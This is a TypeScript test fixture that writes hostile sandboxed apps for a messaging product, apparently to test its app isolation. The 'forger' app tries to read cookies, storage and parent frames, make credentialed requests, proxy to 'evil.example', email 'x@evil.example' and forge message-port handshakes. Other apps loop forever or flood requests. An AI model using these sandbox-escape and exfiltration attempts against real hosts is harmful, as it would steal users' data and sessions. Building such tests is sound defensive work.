import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const words = (text: string) => ({ en: text, es: text, nl: text });

/**
 * Hostile apps, and an honest one (`victim`) for them to attack. Each page logs stolen data to the console as
 * `leaked …`.
 */
const APPS: Record<string, { scopes: string[]; script: string; more?: Record<string, string> }> = {
  looper: {
    scopes: [],
    script: `ParleyApp.connect().then(() => { document.title = 'looping'; setTimeout(() => { for (;;); }, 50); });`,
  },
  silent: { scopes: [], script: '' },
  leaver: {
    scopes: ['contact:read'],
    script: `ParleyApp.connect().then(() => setTimeout(() => (location.href = 'collector.html'), 50));`,
    more: {
      'collector.html': `<!doctype html><title>Collector</title><script src="collector.js"></script>`,
      'collector.js': `
        addEventListener('message', ({ data }) => console.log('leaked heard ' + JSON.stringify(data)));
        parent.postMessage({ type: 'parley-app-ready', nonce: location.hash.slice(1) }, '*');`,
    },
  },
  flooder: {
    scopes: [],
    script: `ParleyApp.connect().then((inbox) => {
      const flood = () => {
        for (let n = 0; n < 5000; n++) inbox.settings().catch(() => {});
        setTimeout(flood, 10);
      };
      flood();
    });`,
  },
  victim: {
    scopes: ['contact:read', 'conversation:read'],
    script: `
      window.contexts = [];
      ParleyApp.connect().then((inbox) => inbox.onContext(({ contact }) => contexts.push(contact && contact.name)));`,
  },
  forger: {
    scopes: [],
    script: `
      window.attempts = 0;
      const leak = (kind, got) => console.log('leaked ' + kind + ' ' + got);
      const attempt = (kind, reach) => {
        attempts++;
        return Promise.resolve().then(reach).then((got) => leak(kind, got), () => {});
      };
      const refused = () => { throw new Error(); };
      const tops = () => Array.from({ length: top.length }, (_, n) => top[n]);
      const fake = { app: { id: 'f', name: 'f' }, place: 'contact', language: 'en', theme: 'light', conversation: null,
        contact: { id: 'f', name: 'Forged', phone: null, email: null } };
      addEventListener('message', ({ data, ports }) => {
        if (!window.isConnected) return (window.isConnected = ports.length > 0);
        leak('message', JSON.stringify(data));
      });
      const once = (inbox) => Promise.all([
        attempt('parent document', () => parent.document.title),
        attempt('parent address', () => parent.location.href),
        attempt('sibling document', () => tops().map((each) => each === window ? refused() : each.document.title)),
        attempt('storage', () => localStorage.length),
        attempt('cookies', () => document.cookie),
        attempt('databases', () => indexedDB.open('x')),
        attempt('caches', () => caches.keys()),
        attempt('network', () => fetch('/api/v3/apps', { credentials: 'include' }).then(() => 'reached')),
        attempt('socket', () => new Promise((open, fail) => {
          const socket = new WebSocket(location.href.replace(/^http/, 'ws').replace(/app-bundles.*/, 'socket.io/'));
          socket.onopen = () => open('open');
          socket.onerror = fail;
        })),
        attempt('leading the window away', () => {
          top.location = 'about:blank#away';
          return refused();
        }),
        attempt('messages', () => inbox.messages()),
        attempt('data', () => inbox.data.list()),
        attempt('proxy', () => inbox.proxy({ url: 'https://evil.example/' })),
        attempt('email', () => inbox.email({ to: 'x@evil.example', subject: 'x', text: 'x' })),
        attempt('token', () => inbox.token()),
        attempt('draft', () => inbox.insert('forged')),
        attempt('translation', () => inbox.translate('x', 'en')),
        attempt('contact', () => inbox.context.contact ? inbox.context.contact.name : refused()),
        attempt('conversation', () => inbox.context.conversation ? inbox.context.conversation.id : refused()),
        attempt('another port', () => {
          for (const nonce of [location.hash.slice(1), '', 'x', crypto.randomUUID()]) {
            parent.postMessage({ type: 'parley-app-ready', nonce }, '*');
          }
          return refused();
        }),
        attempt('the port of another', () => new Promise((hear, fail) => {
          for (const each of tops()) {
            if (each === window) continue;
            const { port1, port2 } = new MessageChannel();
            port1.onmessage = ({ data }) => hear(JSON.stringify(data));
            each.postMessage({ type: 'parley-app-port', context: fake }, '*', [port2]);
            each.postMessage({ event: 'context', data: fake }, '*');
          }
          setTimeout(fail, 100);
        })),
      ]);
      ParleyApp.connect().then((inbox) => (window.attack = () => once(inbox)));`,
  },
};

export const hostileApps = Object.keys(APPS);
export const nameOfHostile = (packageName: string) => `Hostile ${packageName}`;
export const scopesOfHostile = (packageName: string) => APPS[packageName]?.scopes ?? [];

/** Writes all these apps into a folder that the product reads as its catalogue. */
export async function hostileCatalogue(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'parley-hostile-'));
  for (const [packageName, { scopes, script, more = {} }] of Object.entries(APPS)) {
    await mkdir(join(folder, packageName));
    const manifest = {
      ...{ packageName, name: nameOfHostile(packageName), version: '1.0.0', publisher: 'Nobody' },
      ...{ description: words(packageName), places: { contact: 'panel.html' }, settings: [], hosts: [] },
      ...{ scopes, optionalScopes: [], features: [] },
    };
    const files = {
      'manifest.json': JSON.stringify(manifest),
      'panel.html': `<!doctype html><title>${packageName}</title>
        <script src="/app-bundles/parley-app-sdk.js"></script><script src="panel.js"></script>`,
      'panel.js': script,
      ...more,
    };
    for (const [name, text] of Object.entries(files)) await writeFile(join(folder, packageName, name), text);
  }
  return folder;
}
